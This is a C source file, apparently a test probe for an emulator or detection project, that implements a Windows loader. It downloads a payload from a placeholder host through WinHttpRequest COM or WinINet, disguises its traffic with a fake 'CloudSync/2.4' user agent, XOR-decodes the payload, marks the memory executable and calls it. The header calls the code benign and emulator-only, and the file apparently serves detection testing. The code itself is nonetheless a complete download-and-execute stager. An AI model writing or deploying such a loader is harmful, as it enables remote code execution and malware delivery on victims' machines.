/*
 * loader.c - probe: a downloader that tries COM's HTTP clients first, as many 2023-2025 loaders
 * and scripts do, then falls back to WinINet (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *   1. CoInitializeEx, CoCreateInstance(WinHttp.WinHttpRequest.5.1, IWinHttpRequest):
 *      Open("GET", URL, false), Send(), get_Status, get_ResponseBody (a SAFEARRAY of bytes).
 *   2. If that class is not there: CoCreateInstance(MSXML2.XMLHTTP.6.0), then WinINet's
 *      InternetOpenUrlA + InternetReadFile of the same URL.
 *   The body is the payload XOR 0x3c: decoded into RW memory, made RX and called.
 *   3. CoCreateInstance(BITS BackgroundCopyManager, IBackgroundCopyManager): not used further.
 * Exit codes: 0 ok, 1 no marker, 2 download failed, 3 memory.
 */
#include "common.h"
#include <oleauto.h>
#include <wininet.h>

static const GUID CLSID_WinHttpRequest_ = {0x2087c2f4, 0x2cef, 0x4953, {0xa8, 0xab, 0x66, 0x77, 0x9b, 0x67, 0x04, 0x95}};
static const GUID IID_IWinHttpRequest_ = {0x016fe2ec, 0xb2c8, 0x45f8, {0xb2, 0x3b, 0x39, 0xe5, 0x3a, 0x75, 0x39, 0x6b}};
static const GUID CLSID_XMLHTTP60_ = {0x88d96a0a, 0xf192, 0x11d4, {0xa6, 0x5f, 0x00, 0x40, 0x96, 0x32, 0x51, 0xe5}};
static const GUID IID_IXMLHTTPRequest_ = {0xed8c108d, 0x4349, 0x11d2, {0x91, 0xa4, 0x00, 0xc0, 0x4f, 0x79, 0x69, 0xe8}};
static const GUID CLSID_BackgroundCopyManager_ = {0x4991d34b, 0x80a1, 0x4291, {0x83, 0xb6, 0x33, 0x28, 0x36, 0x6b, 0x90, 0x97}};
static const GUID IID_IBackgroundCopyManager_ = {0x5ce34c0d, 0x0dc9, 0x4c1f, {0x89, 0x7c, 0xda, 0xa1, 0xb7, 0x8c, 0xee, 0x7c}};

/* IWinHttpRequest (httprequest.idl): IDispatch's seven methods, then these, in this order. */
typedef struct IWinHttpRequest_ IWinHttpRequest_;
typedef struct {
    HRESULT (STDMETHODCALLTYPE *QueryInterface)(IWinHttpRequest_ *, REFIID, void **);
    ULONG (STDMETHODCALLTYPE *AddRef)(IWinHttpRequest_ *);
    ULONG (STDMETHODCALLTYPE *Release)(IWinHttpRequest_ *);
    void *GetTypeInfoCount, *GetTypeInfo, *GetIDsOfNames, *Invoke;
    void *SetProxy, *SetCredentials;
    HRESULT (STDMETHODCALLTYPE *Open)(IWinHttpRequest_ *, BSTR, BSTR, VARIANT);
    HRESULT (STDMETHODCALLTYPE *SetRequestHeader)(IWinHttpRequest_ *, BSTR, BSTR);
    void *GetResponseHeader, *GetAllResponseHeaders;
    HRESULT (STDMETHODCALLTYPE *Send)(IWinHttpRequest_ *, VARIANT);
    HRESULT (STDMETHODCALLTYPE *get_Status)(IWinHttpRequest_ *, LONG *);
    void *get_StatusText, *get_ResponseText;
    HRESULT (STDMETHODCALLTYPE *get_ResponseBody)(IWinHttpRequest_ *, VARIANT *);
} IWinHttpRequestVtbl_;
struct IWinHttpRequest_ {
    const IWinHttpRequestVtbl_ *lpVtbl;
};

#define URL_A "https://updates.example-cloudsync.net/agent/cfg.bin"
#define URL_W L"https://updates.example-cloudsync.net/agent/cfg.bin"

static unsigned char g_body[8192];

static DWORD fetch_com(void)
{
    IWinHttpRequest_ *req = 0;
    VARIANT async, empty, body;
    BSTR method, url;
    LONG status = 0;
    unsigned char *data;
    DWORD size = 0, i;
    if (FAILED(CoCreateInstance(&CLSID_WinHttpRequest_, 0, CLSCTX_INPROC_SERVER, &IID_IWinHttpRequest_, (void **)&req)) || !req)
        return 0;
    VariantInit(&async);
    async.vt = VT_BOOL;
    async.boolVal = VARIANT_FALSE;
    VariantInit(&empty);
    VariantInit(&body);
    method = SysAllocString(L"GET");
    url = SysAllocString(URL_W);
    if (SUCCEEDED(req->lpVtbl->Open(req, method, url, async)) &&
        SUCCEEDED(req->lpVtbl->SetRequestHeader(req, L"User-Agent", L"CloudSync/2.4")) &&
        SUCCEEDED(req->lpVtbl->Send(req, empty)) && SUCCEEDED(req->lpVtbl->get_Status(req, &status)) &&
        status == 200 && SUCCEEDED(req->lpVtbl->get_ResponseBody(req, &body)) && body.vt == (VT_ARRAY | VT_UI1) &&
        SUCCEEDED(SafeArrayAccessData(body.parray, (void **)&data))) {
        size = body.parray->rgsabound[0].cElements;
        if (size > sizeof(g_body))
            size = sizeof(g_body);
        for (i = 0; i < size; i++)
            g_body[i] = data[i];
        SafeArrayUnaccessData(body.parray);
    }
    VariantClear(&body);
    SysFreeString(method);
    SysFreeString(url);
    req->lpVtbl->Release(req);
    return size;
}

static DWORD fetch_wininet(void)
{
    HINTERNET net, h;
    DWORD got = 0, total = 0;
    net = InternetOpenA("CloudSync/2.4", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    if (!net)
        return 0;
    h = InternetOpenUrlA(net, URL_A, 0, 0, INTERNET_FLAG_RELOAD | INTERNET_FLAG_SECURE, 0);
    if (h) {
        while (total < sizeof(g_body) && InternetReadFile(h, g_body + total, sizeof(g_body) - total, &got) && got)
            total += got;
        InternetCloseHandle(h);
    }
    InternetCloseHandle(net);
    return total;
}

void Entry(void)
{
    static struct sc_ctx ctx;
    void *xml = 0, *bits = 0;
    unsigned char *code;
    DWORD size, i, old;

    if (!marker_present())
        ExitProcess(1);
    CoInitializeEx(0, COINIT_APARTMENTTHREADED);
    size = fetch_com();
    if (!size) {
        if (SUCCEEDED(CoCreateInstance(&CLSID_XMLHTTP60_, 0, CLSCTX_INPROC_SERVER, &IID_IXMLHTTPRequest_, &xml)) && xml)
            ((IUnknown *)xml)->lpVtbl->Release((IUnknown *)xml);
        size = fetch_wininet();
    }
    if (!size)
        ExitProcess(2);
    code = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < size; i++)
        code[i] = g_body[i] ^ 0x3c;
    if (!VirtualProtect(code, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_comdl.txt", "fetched through COM or its fallback\n");
    ((void (WINAPI *)(struct sc_ctx *))(void *)code)(&ctx);
    if (SUCCEEDED(CoCreateInstance(&CLSID_BackgroundCopyManager_, 0, CLSCTX_LOCAL_SERVER, &IID_IBackgroundCopyManager_, &bits)) && bits)
        ((IUnknown *)bits)->lpVtbl->Release((IUnknown *)bits);
    CoUninitialize();
    ExitProcess(0);
}
